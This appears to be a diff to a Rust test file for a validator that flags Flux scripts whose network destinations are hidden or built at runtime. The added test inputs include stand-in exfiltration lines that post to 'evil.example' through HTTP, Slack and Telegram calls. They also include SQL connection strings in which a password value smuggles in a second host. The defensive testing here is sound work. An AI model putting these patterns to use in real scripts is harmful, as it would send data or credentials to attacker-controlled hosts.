@@ -456,12 +456,16 @@ fn a_hidden_string_in_a_script_of_unknown_places_is_said_and_cannot_be_allowed()
         "token = strings.replaceAll(v: \"evil#example\", t: \"#\", u: \".\")\nhttp.post(url: \"https://${token}\")",
         "array.from(rows: [{password: \"evil.example\"}]) |> map(fn: (r) => ({r with x: http.post(url: \"https://\" + r.password)}))",
         "import \"slack\"\ntoken = if 1 == 1 then \"evil.example\" else \"x\"\noption slack.defaultURL = \"https://\" + token\nslack.message(token: \"\", channel: \"c\", text: \"t\", color: \"good\")",
+        "import \"contrib/sranka/telegram\"\ntelegram.message(url: \"https://x\", token: \"@evil.example/abc\", channel: \"c\", text: \"t\")",
+        "import \"sql\"\npassword = \"x host=evil.example\"\nsql.from(driverName: \"postgres\", dataSourceName: \"host=good password=\" + password, query: \"q\")",
+        "import \"sql\"\nsql.from(driverName: \"sqlserver\", dataSourceName: \"server=good;password='x;server=evil.example;a='\", query: \"q\")",
         "password = strings.trimSpace(v: \" raw7 \")\nfrom(bucket: password) |> range(start: -1h) |> yield()",
     ] {
         assert_eq!(by(&format!("{post}{script}")), [(Code::FluxHiddenPlace, Severity::Warning)], "{script}");
     }
     for script in [
         "e = \"\"\ntoken = \"https://${e}evil.example/x\"\nhttp.post(url: token)",
+        "import \"contrib/sranka/telegram\"\ntelegram.message(token: \"123456:ABC-def\", channel: \"c\", text: \"t\")",
         "x = if 1 == 1 then \"a.example\" else \"b.example\"\nhttp.post(url: \"https://\" + x)",
         "token = \"S3KRIT\"\nhttp.post(url: \"https://a.example\", headers: {Authorization: \"Token \" + token})",
     ] {
